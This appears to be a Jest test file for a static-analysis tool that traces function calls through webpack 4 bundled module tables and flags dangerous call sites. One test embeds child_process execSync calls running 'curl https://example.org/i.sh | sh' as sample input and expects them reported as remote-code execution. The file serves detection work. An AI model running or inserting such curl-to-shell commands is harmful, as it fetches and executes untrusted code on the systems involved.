import { describe, expect, test } from '@jest/globals';
import { programOf } from '../../support/program-of.ts';
import { sitesOf } from '../sinks/sites-of.ts';
import { calleeNames } from './callee-names.ts';

/** As webpack 4, and ncc before 0.25, hand the table of modules to the runtime. */
function bundle(modules: string, runtime = 'modules', entry = 1): string {
  return `module.exports = (function (${runtime}, startup) {
  var installed = {};
  function __webpack_require__(id) {
    if (installed[id]) return installed[id].exports;
    var module = installed[id] = { i: id, l: false, exports: {} };
    ${runtime}[id].call(module.exports, module, module.exports, __webpack_require__);
    module.l = true;
    return module.exports;
  }
  return __webpack_require__(${entry});
})({ ${modules} });`;
}

const tool = `7: (function (module, exports) { exports.load = function () { 'load'; }; })`;
const started = `129: (function (module) { module.exports = require('child_process'); })`;

test.each<[string, string, readonly string[]]>([
  [
    'a module by its number',
    bundle(`1: (function (m, e, require) { const x = require(7); probe(x.load); }), ${tool}`),
    ['load'],
  ],
  [
    'a name taken out of a module',
    bundle(`1: (function (m, e, require) { const { load } = require(7); probe(load); }), ${tool}`),
    ['load'],
  ],
  [
    'an external',
    bundle(`1: (function (m, e, r) { const x = r(129); probe(x.execSync); }), ${started}`),
    ['child_process execSync'],
  ],
  [
    'modules by paths',
    bundle(
      `1: (function (m, e, r) { probe(r('./src/a.js').load); }), './src/a.js': ${tool.slice(2)}`,
    ),
    ['load'],
  ],
  [
    'a minified runtime',
    `!function(e){var t={};function n(r){if(t[r])return t[r].exports;var i=t[r]={i:r,l:!1,exports:{}};return e[r].call(i.exports,i,i.exports,n),i.l=!0,i.exports}n(1)}({1:function(e,t,n){const r=n(7);probe(r.load)},${tool}});`,
    ['load'],
  ],
])('callees are found through webpack 4: %s', (_name, text, expected) => {
  expect(calleeNames(programOf(text))).toEqual(expected);
});

test('what its modules start is seen', () => {
  const text = bundle(`1: (function (module, exports, r) {
      const x = r(129); x.execSync('curl https://example.org/i.sh | sh');
      const { execSync } = r(129); execSync('curl https://example.org/j.sh | sh');
    }), ${started}`);
  expect(sitesOf(text)).toEqual([
    'exec-remote curl https://example.org/i.sh',
    'exec-remote curl https://example.org/j.sh',
  ]);
});

describe('what is handed to a function is no table of modules', () => {
  test.each<[string, string]>([
    ['functions by names', `{ run: function (m, e, r) { probe(r(7).load); }, ${tool} }`],
    ['numbers that are no functions', `{ 1: 'x', 2: function (m, e, r) { probe(m); } }`],
    ['functions of more than a module takes', `{ 1: function (a, b, c, d) { probe(d); } }`],
    ['functions that wait', `{ 1: async function (m, e, r) { probe(m); } }`],
    ['nothing', '{}'],
  ])('%s', (_name, table) => {
    const program = programOf(`(function (modules) { modules[1](); })(${table});`);
    const modules = program.calls.map((call) => program.moduleOf(call).node.type);
    expect(new Set(modules)).toEqual(new Set(['Program']));
  });

  test('a second argument is none, as are options of a function that somebody else has', () => {
    const table = `{ 1: function (m, e, r) { probe(m); } }`;
    for (const text of [`(function (a, modules) {})(x, ${table});`, `start(${table});`]) {
      const program = programOf(text);
      const probe = program.calls.find((one) => program.textOf(one.callee) === 'probe');
      expect(probe && program.moduleOf(probe).node.type).toBe('Program');
    }
  });
});
